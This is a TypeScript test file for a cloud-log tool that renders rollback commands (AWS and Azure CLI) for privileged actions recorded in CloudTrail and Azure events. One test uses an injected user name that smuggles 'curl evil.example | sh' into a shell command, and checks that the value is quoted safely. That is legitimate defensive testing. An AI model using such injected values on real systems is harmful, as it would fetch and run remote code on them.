import { catalogEntries, classify } from './classify';
import { cloudTrailEvent, invictusRecords } from './test_datasets';
import { renderRollback, shellQuote } from './rollback';
import { awsEvent, azureEvent } from './test_events';

describe('rollback rendering', () => {
  it('fills request parameters into text and command', () => {
    const event = awsEvent('iam.amazonaws.com', 'AttachUserPolicy', { userName: 'bob', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' });
    const template = classify(event)?.rollback;
    expect(template && renderRollback(template, event)).toEqual({
      text: 'Detach arn:aws:iam::aws:policy/AdministratorAccess from the user bob.',
      command: 'aws iam detach-user-policy --user-name bob --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
    });
  });

  it('walks dotted paths and arrays: commas in text, spaces in commands', () => {
    const event = awsEvent('ec2.amazonaws.com', 'ModifySnapshotAttribute', {
      snapshotId: 'snap-1', createVolumePermission: { add: { items: [{ userId: '111' }, { userId: '222' }] } },
    });
    const rendered = renderRollback({ text: 'Shared with {createVolumePermission.add.items.userId}.',
      command: 'aws ec2 modify-snapshot-attribute --snapshot-id {snapshotId} --user-ids {createVolumePermission.add.items.userId} --region {region}' }, event);
    expect(rendered.text).toBe('Shared with 111, 222.');
    expect(rendered.command).toBe('aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --user-ids 111 222 --region us-east-1');
  });

  it('fills {resource}, {account}, {region} and {response.*} from the event', () => {
    const event = azureEvent('Microsoft.Authorization/roleAssignments/write', {}, { resources: ['/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r1'] });
    const template = classify(event)?.rollback;
    expect(template && renderRollback(template, event).command).toBe('az role assignment delete --ids /subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r1');
    const keyEvent = awsEvent('iam.amazonaws.com', 'CreateAccessKey', { userName: 'bob' }, { raw: { responseElements: { accessKey: { accessKeyId: 'AKIANEW', status: 'Active' } } } });
    const keyTemplate = classify(keyEvent)?.rollback;
    expect(keyTemplate && renderRollback(keyTemplate, keyEvent).command).toBe('aws iam delete-access-key --user-name bob --access-key-id AKIANEW');
    const account = renderRollback({ text: 'Account {account} in {region}.' }, awsEvent('s', 'a'));
    expect(account.text).toBe('Account 111122223333 in us-east-1.');
  });

  it('reads the response from an ECS document too', () => {
    const event = awsEvent('iam.amazonaws.com', 'CreateAccessKey', { userName: 'bob' },
      { encoding: 'ecs', raw: { aws: { cloudtrail: { flattened: { response_elements: { accessKey: { accessKeyId: 'AKIAECS' } } } } } } });
    expect(renderRollback({ text: '{response.accessKey.accessKeyId}' }, event).text).toBe('AKIAECS');
  });

  it('leaves what the event does not carry visible as <name>', () => {
    const event = awsEvent('iam.amazonaws.com', 'CreateAccessKey', {});
    const template = classify(event)?.rollback;
    expect(template && renderRollback(template, event).command).toBe(
      'aws iam delete-access-key --user-name <userName> --access-key-id <response.accessKey.accessKeyId>');
  });

  it('leaves JSON braces in templates alone', () => {
    const event = awsEvent('cloudtrail.amazonaws.com', 'PutEventSelectors', { trailName: 'main' });
    const template = classify(event)?.rollback;
    expect(template && renderRollback(template, event).command).toBe(
      `aws cloudtrail put-event-selectors --trail-name main --event-selectors '[{"ReadWriteType":"All","IncludeManagementEvents":true}]' --region us-east-1`);
  });

  it('shell-quotes values taken from the log (they may be the attacker\'s)', () => {
    const event = awsEvent('iam.amazonaws.com', 'CreateUser', { userName: "x'; curl evil.example | sh; echo '" });
    const template = classify(event)?.rollback;
    const command = template ? renderRollback(template, event).command : undefined;
    expect(command).toBe(`aws iam delete-user --user-name 'x'\\''; curl evil.example | sh; echo '\\'''`);
    expect(shellQuote('plain-name_1@example.com')).toBe('plain-name_1@example.com');
    expect(shellQuote('two words')).toBe("'two words'");
  });

  it('renders a rollback for every privileged action of the invictus-ir dataset, with its identifiers filled', () => {
    const privileged = invictusRecords().map(cloudTrailEvent).filter((event) => classify(event)?.category === 'privileged');
    expect(privileged.length).toBeGreaterThan(100);
    const unresolved = new Set<string>();
    for (const event of privileged) {
      const template = classify(event)?.rollback;
      expect(template).toBeDefined();
      const rendered = template ? renderRollback(template, event) : undefined;
      for (const match of `${rendered?.text} ${rendered?.command ?? ''}`.matchAll(/<([\w.]+)>/g)) unresolved.add(`${event.action}:${match[1]}`);
    }
    // Only values the request cannot hold (responses the record lacks, ids to look up) may stay open.
    expect([...unresolved].filter((name) => !/:response\.|:(bucket|associationId|previous)/.test(name))).toEqual([]);
  });

  it('uses only placeholders that exist in at least one request shape of the catalog', () => {
    const names = catalogEntries.flatMap((entry) => [...`${entry.rollback?.text ?? ''} ${entry.rollback?.command ?? ''}`.matchAll(/\{([A-Za-z_][\w-]*(?:\.[\w-]+)*)\}/g)].map((m) => m[1]));
    expect(names.length).toBeGreaterThan(100);
    for (const name of names) expect(name).toMatch(/^(resource|account|region|response\.[\w.]+|[A-Za-z][\w-]*(\.[\w-]+)*)$/);
  });
});
